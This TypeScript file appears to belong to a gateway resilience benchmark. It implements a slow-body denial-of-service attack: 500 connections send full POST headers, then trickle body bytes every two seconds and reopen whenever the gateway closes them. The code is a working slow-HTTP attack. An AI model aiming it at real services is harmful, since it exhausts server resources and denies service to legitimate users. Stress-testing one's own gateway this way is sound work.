import { connect, type Socket } from 'node:net';
import { once } from 'node:events';
import type { AttackTally, BenchAttack } from '../BenchAttack.js';

/** Connections held open at once (the issue used ~1,100; bounded here to stay within file limits). */
const connections = 500;
/** One body byte per connection this often. */
const byteEveryMs = 2000;
const declaredBodyBytes = 100_000;
/** A connection the gateway closed is opened again this much later. */
const reopenAfterMs = 1000;

/**
 * Issue 15, item 4: many connections that send a request's full headers, then its body one byte
 * every few seconds, opening a connection again when the gateway closes it. Each connection is
 * counted a request; what the gateway answers (when it answers before the attack ends) is tallied
 * by status.
 */
export const slowBodies: BenchAttack = {
  id: 'slow-bodies',
  name: 'Slow bodies',
  what: `${connections} connections sending full headers, then one body byte every ${byteEveryMs / 1000} s, each opened again ${reopenAfterMs / 1000} s after the gateway closes it`,
  async run(context) {
    const target = new URL(context.url);
    const head =
      `POST ${target.pathname} HTTP/1.1\r\nHost: ${target.host}\r\nContent-Type: application/json\r\n` + `Content-Length: ${declaredBodyBytes}\r\n\r\n{`;
    const tally: AttackTally = { requests: 0, byStatus: {}, transportErrors: 0 };
    const sockets = new Set<Socket>();
    const open = (): Promise<void> =>
      new Promise((resolve) => {
        const socket = connect({ host: target.hostname, port: Number(target.port), localAddress: context.localAddress });
        sockets.add(socket);
        tally.requests += 1;
        let answered = false;
        socket.setNoDelay(true);
        socket.once('connect', () => {
          socket.write(head);
          resolve();
        });
        socket.on('data', (chunk: Buffer) => {
          const status = /^HTTP\/1\.1 (\d{3})/.exec(chunk.toString('latin1'));
          if (!answered && status) {
            answered = true;
            tally.byStatus[status[1]!] = (tally.byStatus[status[1]!] ?? 0) + 1;
          }
        });
        socket.once('error', () => {
          if (!answered) tally.transportErrors += 1;
          answered = true;
          resolve();
        });
        socket.once('close', () => {
          sockets.delete(socket);
          resolve();
          // The attacker keeps its connections: one the gateway closed (a body timeout, a 429) is
          // opened again, a little later, as long as the attack goes on.
          if (!context.signal.aborted) setTimeout(() => void (context.signal.aborted || open()), reopenAfterMs).unref();
        });
      });
    for (let i = 0; i < connections && !context.signal.aborted; i += 1) await open();
    const drip = setInterval(() => {
      for (const socket of sockets) if (socket.writable) socket.write(' ');
    }, byteEveryMs);
    try {
      if (!context.signal.aborted) await once(context.signal, 'abort');
    } finally {
      clearInterval(drip);
      for (const socket of sockets) socket.destroy();
    }
    return tally;
  },
};
